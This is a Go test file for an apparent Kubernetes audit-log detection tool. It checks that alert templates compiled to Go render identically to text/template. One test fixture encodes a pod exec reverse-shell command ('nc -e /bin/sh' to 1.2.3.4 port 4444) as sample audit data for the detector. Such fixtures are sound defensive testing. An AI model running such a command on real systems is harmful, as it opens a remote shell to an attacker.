package detect

import (
	"strings"
	"testing"
	"time"

	"github.com/vigil-k8s/vigil/ingest"
)

// alertFor is the alert a template renders for: the event's and a window's
// fields as newAlert sets them.
func alertFor(ev *ingest.Event, w *windowResult) *Alert {
	return &Alert{ExecCommand: ExecCommand(ev.RequestURI), GroupKey: w.key, Count: w.count,
		FirstTime: w.first, LastTime: w.last, AuditIDs: w.auditIDs, Distinct: w.distinct}
}

// TestFastTemplates_MatchTextTemplate renders every built-in output that
// compiles to Go both ways on every event of the corpora.
func TestFastTemplates_MatchTextTemplate(t *testing.T) {
	rs := builtinRuleSet(t)
	fast := 0
	for _, r := range rs.Rules {
		if r.fastOutput != nil {
			fast++
		}
	}
	t.Logf("%d of %d built-in outputs compile to Go", fast, len(rs.Rules))
	if fast < len(rs.Rules)/2 {
		t.Errorf("only %d of %d built-in outputs compile to Go", fast, len(rs.Rules))
	}
	windows := []windowResult{
		{},
		{key: "alice|10.0.0.1", count: 3, first: t0, last: t0.Add(time.Minute), auditIDs: []string{"a", "b"}, distinct: []string{"x", "y"},
			steps: []stepResult{{name: "grant", user: "alice", auditID: "a", time: t0}, {name: "use", user: "bob", auditID: "b", time: t0.Add(time.Second)}}},
	}
	var dec ingest.Decoder
	dec.Annotations = true
	for name, events := range equivalenceCorpora(t, rs, 1000) {
		t.Run(name, func(t *testing.T) {
			// Every event of a small corpus, an even sample of a large one.
			stride := max(1, len(events)/400)
			for i := 0; i < len(events); i += stride {
				data := events[i]
				ev, err := dec.Decode(data)
				if err != nil {
					continue
				}
				for _, r := range rs.Rules {
					if r.fastOutput == nil {
						continue
					}
					for _, w := range windows {
						if w.count == 0 {
							w.count, w.key, w.first, w.last, w.auditIDs = 1, ev.AuditID, ev.Time(), ev.Time(), []string{ev.AuditID}
						}
						a := alertFor(ev, &w)
						got := r.fastOutput.render(&tdata{ev: ev, a: a, w: &w})
						want := renderTemplate(r, ev, a, &w)
						if got != want {
							t.Fatalf("event %d, rule %s: Go %q, text/template %q", i, r.Spec.ID, got, want)
						}
					}
				}
			}
		})
	}
}

// TestFastTemplates_Constructs renders each construct the Go form covers
// both ways, and checks which templates stay with text/template.
func TestFastTemplates_Constructs(t *testing.T) {
	withAll := ev("r1", 0, "alice", "get", "pods", 101,
		"objectRef", `{"resource":"pods","subresource":"exec","namespace":"team-a","name":"web"}`,
		"requestURI", "/api/v1/namespaces/team-a/pods/web/exec?command=nc&command=-e&command=%2Fbin%2Fsh&command=1.2.3.4&command=4444",
		"sourceIPs", `["10.0.0.7","10.0.0.8"]`, "userAgent", "kubectl/v1.33.1 (linux/amd64)",
		"annotations", `{"authorization.k8s.io/decision":"allow","empty":""}`)
	bare := []byte(`{"auditID":"n1","stage":"ResponseComplete","verb":"get","requestURI":"/healthz",` +
		`"user":{"username":""},"requestReceivedTimestamp":"2026-11-22T06:00:00Z"}`)
	cases := []struct {
		output string
		fast   bool
	}{
		{`{{ .user.username }} {{ .verb }} {{ .objectRef.resource }}/{{ .objectRef.subresource }} {{ .responseStatus.code }}`, true},
		{`{{ with .objectRef.resource }}{{ . }}{{ with $.objectRef.namespace }} in {{ . }}{{ end }}{{ else }}{{ $.requestURI }}{{ end }}`, true},
		{`{{ if .objectRef.name }}named {{ .objectRef.name }}{{ else if .requestURI }}at {{ .requestURI }}{{ else }}none{{ end }}`, true},
		{`{{ with .sourceIPs }}from {{ join . ", " }}{{ end }} [{{ join .sourceIPs "," }}] [{{ join .nope "," }}] {{ .sourceIPs }} {{ .user.groups }}`, true},
		{`{{ default "nobody" .user.username }} {{ default "-" .nope }} {{ default "x" .count }}`, true},
		{`[{{ .annotations.empty }}][{{ index .annotations "authorization.k8s.io/decision" }}][{{ .annotations.nope }}]{{ with .annotations.empty }}x{{ else }}y{{ end }}`, false},
		{`[{{ .nope }}][{{ .objectRef.uid }}][{{ .user.extra }}][{{ .impersonatedUser.uid }}]{{ with .nope }}x{{ end }}`, true},
		{`{{ .count }} {{ .key }} {{ .first }} {{ .last }} {{ .distinct }} {{ .auditIDs }} {{ .requestReceivedTimestamp }}`, true},
		{`{{ execCommand .requestURI }} / {{ execClass .execCommand }} / {{ uaFamily .userAgent }} / {{ imageRegistry "ghcr.io/a/b:1" }}`, false},
		{`{{ execClass .execCommand }} {{ uaFamily .userAgent }} {{ execCommand .requestURI }}`, true},
		{`{{ if inList .user.username "admins" }}admin{{ else }}user{{ end }} {{ glob .user.username "ali*" }}`, false},
		{`{{ .firstUser }}{{ with .firstUser }} first {{ . }}{{ end }}`, true},
		{`{{ range .steps }}{{ .name }}:{{ .user }} {{ end }}{{ (index .steps 0).user }}`, false},
		{`{{ .first.Format "15:04" }}`, false},
		{`{{ .requestObject.spec.x }}`, false},
		{`{{ $u := .user.username }}{{ $u }}`, false},
		{`{{ .verb | printf "%q" }}`, false},
		{`{{ . }}`, false},
		{`{{ .user }}`, false},
	}
	lists := compileLists(map[string][]string{"admins": {"alice"}})
	w := windowResult{key: "k", count: 2, first: t0, last: t0.Add(time.Second), auditIDs: []string{"r1"},
		distinct: []string{"a"}, steps: []stepResult{{name: "one", user: "alice", auditID: "r1", time: t0}}}
	for _, c := range cases {
		funcs := outputFuncs(lists)
		fast := compileFast("t", c.output, funcs)
		if (fast != nil) != c.fast {
			t.Errorf("%s: compiled to Go %v, want %v", c.output, fast != nil, c.fast)
		}
		tmpl, err := parseOutput("t", c.output, funcs)
		if err != nil {
			t.Fatalf("%s: %v", c.output, err)
		}
		r := &Rule{Spec: RuleSpec{Title: "t"}, output: tmpl, fastOutput: fast}
		for _, data := range [][]byte{withAll, bare} {
			var d ingest.Decoder
			d.Annotations = true
			e, err := d.Decode(data)
			if err != nil {
				t.Fatal(err)
			}
			a := alertFor(e, &w)
			want := renderTemplate(r, e, a, &w)
			if fast != nil {
				if got := fast.render(&tdata{ev: e, a: a, w: &w}); got != want {
					t.Errorf("%s: Go %q, text/template %q", c.output, got, want)
				}
			}
			if strings.Contains(want, "output template failed") {
				t.Errorf("%s: rendered %q", c.output, want)
			}
		}
	}
}
